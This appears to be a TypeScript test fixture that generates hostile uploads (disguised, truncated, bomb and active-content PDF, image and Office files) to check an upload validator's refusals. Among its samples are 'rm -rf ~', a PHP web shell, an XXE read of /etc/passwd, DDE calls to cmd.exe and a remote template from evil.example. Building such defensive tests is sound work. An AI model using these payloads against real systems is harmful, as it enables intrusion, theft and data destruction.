import { deflateSync, gzipSync } from 'node:zlib';
import { type RefusalCode } from '@duban/domain/refusal';
import { CATALOGUE, DOCX_MAIN, goodFiles, goodPdf, jpegOf, PAGE, PAGES, partsOf, pdfOf, pngOf, relation, relations, streamOf, types, XLSX_MAIN } from './good-files.ts'; // prettier-ignore
import { zipOf, type ZipPart } from './zip-writer.ts';

/** A file that must not come in, and what its sender may be told. */
export interface Hostile {
  title: string;
  name: string;
  bytes: Buffer;
  codes: readonly RefusalCode[];
}

const FORMS: readonly RefusalCode[] = [
  'file.damaged',
  'file.trailing-data',
  'file.type-mismatch',
  'file.unsafe-archive',
];
const ACTIVE: readonly RefusalCode[] = ['file.active-content'];
const hex = (text: string): Buffer => Buffer.from(text, 'hex');
const OLE = Buffer.concat([hex('d0cf11e0a1b11ae1'), Buffer.alloc(600)]);

/** Every hostile upload there is: built anew each time, none is kept. */
export async function corpus(): Promise<Hostile[]> {
  const good = await goodFiles();
  const kinds = ['pdf', 'jpg', 'png', 'docx', 'xlsx', 'ofd'];
  const oneOf = new Map(
    kinds.map((kind) => [kind, good.find(([name]) => name.toLowerCase().endsWith(kind))?.[1] ?? Buffer.alloc(0)]),
  );
  return [
    ...names(),
    ...foreign(oneOf),
    ...stowaways(oneOf),
    ...cut(oneOf),
    ...pdfs(),
    ...pictures(),
    ...packages(),
    ...secrets(),
  ];
}

function names(): Hostile[] {
  const pdf = goodPdf();
  const hostile = [
    'a\u202Efdp.exe.pdf', '\u202Efdp.docx', 'a\u200Bb.pdf', 'a\u200Fb.pdf', '\uFEFFa.pdf', 'a\u0000.pdf', 'a.pdf\u0000.exe', 'a\u0007.pdf', 'a\tb.pdf',
    'a\u007F.pdf', 'a\u0085b.pdf', 'a\u2028b.pdf', '../a.pdf', '..\\a.pdf', '/etc/passwd.pdf', 'C:\\a.pdf', 'dir/a.pdf', 'a/../../b.pdf', '\\\\host\\a.pdf',
    'a\u2215b.pdf', 'a\u2044b.pdf', '..%2fa/b.pdf', 'a:b.pdf', 'a.pdf:stream.pdf', 'a*.pdf', 'a?.pdf', 'a"b.pdf', 'a<b>.pdf', 'a|b.pdf', '.pdf', '..pdf', '.htaccess.pdf',
    ' .pdf', '-rf.pdf', '~a.pdf', 'a .pdf', `${'长'.repeat(297)}.pdf`, `${'a'.repeat(400)}.pdf`, 'CON.pdf', 'nul.pdf', 'com1.pdf', 'LPT9.x.pdf', 'aux.pdf',
    'a.exe.pdf', 'a.js.pdf', 'a.html.pdf', 'a.svg.pdf', 'a.php.pdf', 'a.php5.x.pdf', 'a.bat.pdf', 'a.docm.pdf', 'a.xlsm.docx.pdf', 'a.lnk.pdf', 'a.scr .pdf',
    'a.hta.pdf', 'a.ps1.pdf', 'a.sh.pdf', 'a.jar.pdf', 'a.iso.pdf', 'a\uD800.pdf', 'a\uE000.pdf', 'a\u00ADb.pdf', 'a\u2066b\u2069.pdf', 'a\u061Cb.pdf', 'a\uFF3Cb.pdf',
  ]; // prettier-ignore
  const wrongEndings = ['a', 'a.exe', 'a.pdf.exe', 'a.html', 'a.svg', 'a.docm', 'a.xlsm', 'a.doc', 'a.xls', 'a.zip', 'a.gif', 'a.pdf.', 'a.pdf ~', 'a.pdfx', 'a.txt', 'a.js']; // prettier-ignore
  return [...hostile, ...wrongEndings].map((name) => ({
    title: `name ${JSON.stringify(name.slice(0, 40))}`,
    name,
    bytes: pdf,
    codes: ['file.name-hostile', 'file.type-not-allowed'],
  }));
}

type Ones = ReadonlyMap<string, Buffer>;

/** What is inside is not what the name says. */
function foreign(ones: Ones): Hostile[] {
  const each = [...ones];
  const swapped = each.flatMap(([kind]) =>
    each
      .filter(([other]) => other !== kind)
      .map(([other, bytes]) => ({ title: `${other} named ${kind}`, name: `a.${kind}`, bytes })),
  );
  const others: [string, Buffer][] = [
    ['program', Buffer.concat([Buffer.from('MZ\x90\0'), Buffer.alloc(500)])],
    ['ELF', Buffer.concat([hex('7f454c4602010100'), Buffer.alloc(500)])],
    ['html', Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>')],
    ['svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ['script', Buffer.from('#!/bin/sh\nrm -rf ~\n')],
    ['rtf', Buffer.from('{\\rtf1 hello}')],
    ['old doc', OLE],
    ['plain zip', zipOf([{ name: 'a.txt', content: 'a' }])],
    ['gzip', gzipSync('a')],
    ['rar', hex('526172211a0700cf907300000d00000000000000')],
    ['7z', hex('377abcaf271c0004000000000000000000000000')],
    ['gif', Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(100)])],
    ['bmp', Buffer.concat([Buffer.from('BM'), Buffer.alloc(100)])],
    ['tiff', Buffer.concat([hex('49492a0008000000'), Buffer.alloc(100)])],
    ['webp', Buffer.concat([Buffer.from('RIFF\x20\0\0\0WEBPVP8 '), Buffer.alloc(100)])],
    ['text', Buffer.from('just text')],
    ['zeros', Buffer.alloc(5000)],
    ['postscript', Buffer.from('%!PS-Adobe-3.0\n(x) run\n')],
    ['shortcut', Buffer.concat([hex('4c0000000114020000000000c000000000000046'), Buffer.alloc(80)])],
  ];
  const named = others.flatMap(([title, bytes]) =>
    ['pdf', 'docx', 'png'].map((kind) => ({ title: `${title} named ${kind}`, name: `a.${kind}`, bytes })),
  );
  const empty = [...ones.keys()].map((kind) => ({
    title: `empty ${kind}`,
    name: `a.${kind}`,
    bytes: Buffer.alloc(0),
    codes: ['file.empty'] as const,
  }));
  return [...[...swapped, ...named].map((one) => ({ ...one, codes: FORMS })), ...empty];
}

/** Two files in one. */
function stowaways(ones: Ones): Hostile[] {
  const zip = zipOf([{ name: 'x.js', content: 'alert(1)' }]);
  const riders: [string, Buffer][] = [
    ['zip', zip],
    ['page', Buffer.from('<html><script>alert(1)</script></html>')],
    ['program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)])],
    ['pdf', goodPdf()],
    ['one byte', Buffer.from('x')],
  ];
  return [...ones].flatMap(([kind, bytes]) => [
    // A second PDF after a PDF is what saving again looks like; where it stands it must still be right.
    ...riders
      .filter(([rider]) => !(kind === 'pdf' && rider === 'pdf'))
      .map(([rider, more]) => ({
        title: `${rider} after ${kind}`,
        name: `a.${kind}`,
        bytes: Buffer.concat([bytes, more]),
        codes: FORMS,
      })),
    ...riders.map(([rider, more]) => ({
      title: `${rider} before ${kind}`,
      name: `a.${kind}`,
      bytes: Buffer.concat([more, bytes]),
      codes: FORMS,
    })),
  ]);
}

/** Half a file. */
const cut = (ones: Ones): Hostile[] =>
  [...ones].flatMap(([kind, bytes]) =>
    [0.1, 0.5, 0.9, 0.99].map((part) => ({
      title: `${kind} cut at ${part}`,
      name: `a.${kind}`,
      bytes: bytes.subarray(0, Math.max(1, Math.floor(bytes.length * part))),
      codes: FORMS,
    })),
  );

function pdfs(): Hostile[] {
  const escaped = (name: string): string[] => [
    name,
    `#${name.charCodeAt(0).toString(16)}${name.slice(1)}`,
    `${name.slice(0, -1)}#${name.charCodeAt(name.length - 1).toString(16)}`,
    [...name].map((letter) => `#${letter.charCodeAt(0).toString(16).toUpperCase()}`).join(''),
  ];
  const does: [string, (name: string) => string][] = [
    ['JavaScript', (name) => `<< /S /${name} /JS (app.alert\\(1\\)) >>`],
    ['JS', (name) => `<< /S /Other /${name} (app.alert\\(1\\)) >>`],
    ['Launch', (name) => `<< /S /${name} /F (cmd.exe) >>`],
    ['EmbeddedFile', (name) => `<< /Type /${name} /Length 0 >>\nstream\n\nendstream`],
    ['EmbeddedFiles', (name) => `<< /Names << /${name} 9 0 R >> >>`],
    ['RichMedia', (name) => `<< /Subtype /${name} >>`],
    ['SubmitForm', (name) => `<< /S /${name} /F (http://x) >>`],
    ['ImportData', (name) => `<< /S /${name} /F (x) >>`],
    ['GoToE', (name) => `<< /S /${name} /D (x) >>`],
    ['Rendition', (name) => `<< /S /${name} /OP 0 >>`],
    ['XFA', (name) => `<< /AcroForm << /${name} 9 0 R >> >>`],
  ];
  const spelled = does.flatMap(([name, object]) =>
    escaped(name).map((spelling) => ({ title: `pdf /${spelling}`, bytes: goodPdf([object(spelling)]) })),
  );
  const packed = does.flatMap(([name, object]) =>
    [name, escaped(name)[1] ?? name].map((spelling) => ({
      title: `pdf /${spelling} packed`,
      bytes: goodPdf([streamOf('/Type /ObjStm /N 1 /First 4', `9 0 ${object(spelling)}`)]),
    })),
  );
  const script = '9 0 << /S /JavaScript /JS (x) >>';
  const hidden = [
    ['escaped ObjStm', streamOf('/Type /Obj#53tm /N 1 /F#69rst 4', script)],
    ['ObjStm without its type', streamOf('/N 1 /First 4', script)],
    ['ObjStm behind text in brackets', streamOf('/X (1 0 obj << >>) /N 1 /First 4', script)],
    ['ObjStm behind a comment', Buffer.concat([Buffer.from('% <<\n'), streamOf('/N 1 /First 4', script)])],
    [
      'ObjStm within another stream',
      streamOf('', Buffer.concat([Buffer.from('1 0 obj\n'), streamOf('/N 1 /First 4', script)]), ''),
    ],
    [
      'short name of the filter',
      Buffer.concat([
        Buffer.from('<< /N 1 /First 4 /Filter /Fl >>stream\r\n'),
        deflateSync(script),
        Buffer.from('endstream'),
      ]),
    ],
    ['open action with a script', '<< /Type /Catalog /OpenAction << /S /JavaScript /JS 7 0 R >> >>'],
    ['additional actions', '<< /AA << /O << /S /JavaScript /JS (x) >> >> >>'],
    ['script in a list', '[ << /S /JavaScript /JS (x) >> ]'],
  ] as const;
  const unseen = [
    ['hexadecimal', streamOf('/N 1 /First 4', Buffer.from(script).toString('hex'), '/ASCIIHexDecode')],
    ['chain of filters', streamOf('/N 1 /First 4', 'x', '[/ASCII85Decode /FlateDecode]')],
    ['LZW', streamOf('/N 1 /First 4', 'x', '/LZWDecode')],
    ['filter by reference', streamOf('/N 1 /First 4', 'x', '9 0 R')],
    ['two filters named', streamOf('/N 1 /First 4 /Filter /ASCIIHexDecode', script)],
    ['predictor', streamOf('/N 1 /First 4 /DecodeParms << /Predictor 12 >>', script)],
    ['broken packing', streamOf('/N 1 /First 4', 'no zlib', '[/FlateDecode ]')],
  ] as const;
  const forms: [string, Buffer, readonly RefusalCode[]][] = [
    ['password', pdfOf([CATALOGUE, PAGES, PAGE, streamOf('', 'x')], '/Encrypt 9 0 R'), ['file.password']],
    ['head not at 0', Buffer.concat([Buffer.from('\n'), goodPdf()]), FORMS],
    [
      'page in its head',
      Buffer.from(goodPdf().toString('latin1').replace('%PDF-1.7\n', '%PDF-1.7\n%<html><script>\n'), 'latin1'),
      FORMS,
    ],
    ['no table', Buffer.from('%PDF-1.7\n1 0 obj\n<< >>\nendobj\n%%EOF\n'), FORMS],
    ['table elsewhere', Buffer.from('%PDF-1.7\n1 0 obj\n<< >>\nendobj\nstartxref\n3\n%%EOF\n'), FORMS],
    ['another version', Buffer.from(goodPdf().toString('latin1').replace('%PDF-1.7', '%PDF-9.9'), 'latin1'), FORMS],
    [
      'bomb of objects',
      goodPdf([streamOf('/N 1 /First 4', Buffer.alloc(120 * 1024 * 1024))]),
      ['file.unpacks-too-large'],
    ],
    ['dictionary without end', goodPdf([`<< /A (${'x'.repeat(2_000_000)}`]), ['file.not-examined', 'file.damaged']],
  ];
  return [
    ...[...spelled, ...packed].map((one) => ({ ...one, name: 'a.pdf', codes: ACTIVE })),
    ...hidden.map(([title, object]) => ({
      title: `pdf: ${title}`,
      name: 'a.pdf',
      bytes: goodPdf([object]),
      codes: ACTIVE,
    })),
    ...unseen.map(([title, object]) => ({
      title: `pdf objects: ${title}`,
      name: 'a.pdf',
      bytes: goodPdf([object]),
      codes: ['file.not-examined', 'file.damaged', ...ACTIVE] as const,
    })),
    ...forms.map(([title, bytes, codes]) => ({ title: `pdf: ${title}`, name: 'a.pdf', bytes, codes })),
  ];
}

function pictures(): Hostile[] {
  const floods: [number, number][] = [[7072, 7072], [50_000, 1001], [65_535, 65_535]]; // prettier-ignore
  const page = Buffer.from('<script>alert(1)</script>');
  const flat = pngOf(10, 10);
  const broken = Buffer.from(flat);
  broken[20] = (broken[20] ?? 0) ^ 1;
  return [
    ...floods.flatMap(([width, height]) => [
      {
        title: `png of ${width} × ${height}`,
        name: 'a.png',
        bytes: pngOf(width, height),
        codes: ['file.too-many-pixels'] as const,
      },
      {
        title: `jpg of ${width} × ${height}`,
        name: 'a.jpg',
        bytes: jpegOf(width, height),
        codes: ['file.too-many-pixels'] as const,
      },
    ]),
    { title: 'png without size', name: 'a.png', bytes: pngOf(0, 10), codes: FORMS },
    { title: 'jpg without size', name: 'a.jpg', bytes: jpegOf(10, 0), codes: FORMS },
    { title: 'png with a wrong sum', name: 'a.png', bytes: broken, codes: FORMS },
    { title: 'png with a page in its text', name: 'a.png', bytes: pngOf(10, 10, [['tEXt', page]]), codes: FORMS },
    {
      title: 'png with a zip in a chunk',
      name: 'a.png',
      bytes: pngOf(10, 10, [['zipp', zipOf([{ name: 'a', content: 'a' }])]]),
      codes: FORMS,
    },
    { title: 'jpg with a page in its comment', name: 'a.jpg', bytes: jpegOf(10, 10, [[0xfe, page]]), codes: FORMS },
    {
      title: 'jpg with PHP in its comment',
      name: 'a.jpg',
      bytes: jpegOf(10, 10, [[0xfe, Buffer.from('<?php system($_GET[0]);')]]),
      codes: FORMS,
    },
    {
      title: 'jpg with a zip in its comment',
      name: 'a.jpg',
      bytes: jpegOf(10, 10, [[0xfe, zipOf([{ name: 'a', content: 'a' }])]]),
      codes: FORMS,
    },
  ];
}

function packages(): Hostile[] {
  return (['docx', 'xlsx', 'ofd'] as const).flatMap((kind) => {
    const one = (title: string, bytes: Buffer, codes: readonly RefusalCode[]): Hostile => ({
      title: `${kind}: ${title}`,
      name: `a.${kind}`,
      bytes,
      codes,
    });
    const having = (title: string, part: ZipPart, codes: readonly RefusalCode[]): Hostile =>
      one(title, zipOf([...partsOf(kind), part]), codes);
    const plain = partsOf(kind);
    const [first] = plain;
    const unsafe = ['file.unsafe-archive'] as const;
    const large = ['file.unpacks-too-large'] as const;
    const zeros = Buffer.alloc(2 * 1024 * 1024);
    return [
      ...[
        '../a.xml',
        '/a.xml',
        'a/../../b.xml',
        'C:/a.xml',
        'a\\b.xml',
        './a.xml',
        'a\u0000.xml',
        'a\nb.xml',
        'a./b.xml',
        'a\u202Eb.xml',
      ].map((name) => having(`path ${JSON.stringify(name)}`, { name, content: 'x' }, unsafe)),
      having('symbolic link', { name: 'link', content: '/etc/passwd', attributes: (0o120777 << 16) >>> 0 }, unsafe),
      having('device', { name: 'device', content: '', attributes: (0o020666 << 16) >>> 0 }, unsafe),
      having('same name twice', { name: (first?.name as string).toUpperCase(), content: 'x' }, unsafe),
      having('password', { name: 'a.xml', content: 'x', flags: 0x801 }, ['file.password', ...unsafe]),
      having('strong password', { name: 'a.xml', content: 'x', flags: 0x841 }, ['file.password', 'file.damaged']),
      having('another packing', { name: 'a.xml', content: 'x', method: 12 }, unsafe),
      having('packing 99', { name: 'a.xml', content: 'x', method: 99 }, unsafe),
      having('nested zip', { name: 'media/a.bin', content: zipOf([{ name: 'a', content: 'a' }]) }, unsafe),
      having('nested empty zip', { name: 'media/a.bin', content: zipOf([]) }, unsafe),
      having('nested gzip', { name: 'media/a.bin', content: gzipSync('a') }, unsafe),
      having('nested rar', { name: 'media/a.bin', content: hex('526172211a0700cf') }, unsafe),
      having('zip bomb', { name: 'media/a.bin', content: zeros }, large),
      having('bomb that lies', { name: 'media/a.bin', content: zeros, size: 1000, ownSize: 1000 }, [
        ...large,
        'file.damaged',
      ]),
      having(
        'size over all',
        { name: 'a.xml', content: 'x', size: 300 * 1024 * 1024, ownSize: 300 * 1024 * 1024 },
        large,
      ),
      having('wrong check sum', { name: 'a.xml', content: 'x', crc: 1 }, ['file.damaged']),
      having('broken packing', { name: 'a.xml', content: 'x', packed: hex('ffffffff') }, ['file.damaged']),
      having('other name in its own head', { name: 'a.xml', content: 'x', ownName: 'b.exe' }, unsafe),
      having('other size in its own head', { name: 'a.xml', content: 'xx', ownSize: 1 }, unsafe),
      having('OLE', { name: 'media/a.bin', content: OLE }, ACTIVE),
      having('vbaProject', { name: 'word/vbaProject.bin', content: 'x' }, ACTIVE),
      having('vbaProject by another name', { name: 'word/harmless.bin', content: OLE }, ACTIVE),
      having('ActiveX', { name: 'word/activeX/activeX1.xml', content: '<x/>' }, ACTIVE),
      having('macro sheet', { name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }, ACTIVE),
      having('program', { name: 'media/a.bin', content: 'MZ\x90\0' }, ACTIVE),
      having('ELF', { name: 'media/a.bin', content: hex('7f454c46') }, ACTIVE),
      having('script', { name: 'media/a.bin', content: '#!/bin/sh' }, ACTIVE),
      having('pdf', { name: 'media/a.bin', content: goodPdf() }, ACTIVE),
      ...['exe', 'js', 'html', 'svg', 'vbs', 'lnk', 'docm', 'hta'].map((ending) =>
        having(`a part .${ending}`, { name: `media/a.${ending}`, content: 'x' }, ACTIVE),
      ),
      having(
        'DTD',
        {
          name: 'x.xml',
          content: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        },
        ACTIVE,
      ),
      having(
        'DTD in two-byte characters',
        {
          name: 'x.xml',
          content: Buffer.concat([hex('fffe'), Buffer.from('<!DOCTYPE a [<!ENTITY b "c">]><a/>', 'utf16le')]),
        },
        ACTIVE,
      ),
      having(
        'remote template',
        {
          name: 'word/_rels/settings.xml.rels',
          content: relations(relation('attachedTemplate', 'https://evil.example/a.dotm', ' TargetMode="External"')),
        },
        ACTIVE,
      ),
      having(
        'remote template in numbers',
        {
          name: 'word/_rels/settings.xml.rels',
          content: relations(
            relation('attachedTemplate', '&#104;ttps://evil.example/a.dotm', ' TargetMode="Ext&#x65;rnal"'),
          ),
        },
        ACTIVE,
      ),
      having(
        'remote file',
        {
          name: 'word/_rels/document.xml.rels',
          content: relations(relation('image', '\\\\host\\share\\a.png', ' TargetMode="External"')),
        },
        ACTIVE,
      ),
      having(
        'OLE relation',
        { name: 'word/_rels/document.xml.rels', content: relations(relation('oleObject', 'embeddings/a.bin')) },
        ACTIVE,
      ),
      having(
        'foreign chunk',
        { name: 'word/_rels/document.xml.rels', content: relations(relation('aFChunk', 'a.mht')) },
        ACTIVE,
      ),
      having(
        'DDE',
        {
          name: 'x/fields.xml',
          content:
            '<?xml version="1.0"?><w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:p>',
        },
        ACTIVE,
      ),
      having(
        'DDE link',
        {
          name: 'xl/externalLinks/x.xml',
          content: '<?xml version="1.0"?><externalLink><ddeLink ddeService="cmd"/></externalLink>',
        },
        ACTIVE,
      ),
      having('svg in xml', { name: 'media/x.xml', content: '<?xml version="1.0"?><svg onload="x"/>' }, ACTIVE),
      one(
        '2,001 parts',
        zipOf([
          ...plain,
          ...Array.from({ length: 2001 - plain.length }, (_, index) => ({ name: `p${index}`, content: '' })),
        ]),
        large,
      ),
      one('comment', zipOf(plain, { comment: 'PK hello' }), FORMS),
      one('bytes before', zipOf(plain, { before: Buffer.from('x') }), FORMS),
      one('bytes between the parts', zipOf(plain, { between: Buffer.from('hidden') }), FORMS),
      one('bytes before the table', zipOf(plain, { beforeTable: Buffer.alloc(50) }), FORMS),
      one('table counts too few', zipOf(plain, { count: plain.length - 1 }), FORMS),
      one('table counts too many', zipOf(plain, { count: plain.length + 1 }), FORMS),
      one('overlapping parts', overlapping(plain), [...FORMS, ...large]),
      one('without its root', zipOf(plain.slice(1)), FORMS),
      ...(kind === 'ofd' ? [] : office(kind)),
    ];
  });
}

/** Parts that share bytes: the quoted-overlap bomb in small. */
function overlapping(parts: readonly ZipPart[]): Buffer {
  const zip = zipOf([...parts, { name: 'z.bin', content: 'zz', method: 0 }]);
  const table = zip.lastIndexOf(Buffer.from('PK\x01\x02z.bin', 'latin1').subarray(0, 4));
  const changed = Buffer.from(zip);
  changed.writeUInt32LE(0, table + 42);
  return changed;
}

function office(kind: 'docx' | 'xlsx'): Hostile[] {
  const rest = partsOf(kind).slice(1);
  const main = kind === 'docx' ? DOCX_MAIN : XLSX_MAIN;
  const typed = (title: string, content: string, codes: readonly RefusalCode[]): Hostile => ({
    title: `${kind}: ${title}`,
    name: `a.${kind}`,
    bytes: zipOf([{ name: '[Content_Types].xml', content }, ...rest]),
    codes: [...codes, 'file.type-mismatch'],
  });
  return [
    typed('macro document', types('application/vnd.ms-word.document.macroEnabled.main+xml'), ACTIVE),
    typed('macro workbook', types('application/vnd.ms-excel.sheet.macroEnabled.main+xml'), ACTIVE),
    typed(
      'macro type beside',
      types(main, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
      ACTIVE,
    ),
    typed(
      'macro type in numbers',
      types(main, '<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#80;roject"/>'),
      ACTIVE,
    ),
    typed('template', types('application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml'), []),
    typed(
      'presentation',
      types('application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml'),
      [],
    ),
  ];
}

function secrets(): Hostile[] {
  const marked: RefusalCode[] = ['file.secret-mark'];
  const byName = ['绝密★方案.pdf', '机密★10年.pdf', '【机密】名单.pdf', '（秘密）通报.pdf', '绝密-会议纪要.pdf'];
  const texts = ['绝密★启用前', '机 密 ★ 20年', '秘</w:t><w:t>密★1年', '密级：机密', '[秘密]'];
  return [
    ...byName.map((name) => ({ title: name, name, bytes: goodPdf(), codes: [...marked, 'file.name-hostile'] as RefusalCode[] })),
    ...texts.flatMap((text) => [
      { title: `docx ${text}`, name: 'a.docx', bytes: zipOf(partsOf('docx', text)), codes: marked },
      ...(text.includes('w:t') ? [] : [
        { title: `xlsx ${text}`, name: 'a.xlsx', bytes: zipOf(partsOf('xlsx', text)), codes: marked },
        { title: `ofd ${text}`, name: 'a.ofd', bytes: zipOf(partsOf('ofd', text)), codes: marked },
      ]),
    ]),
  ]; // prettier-ignore
}
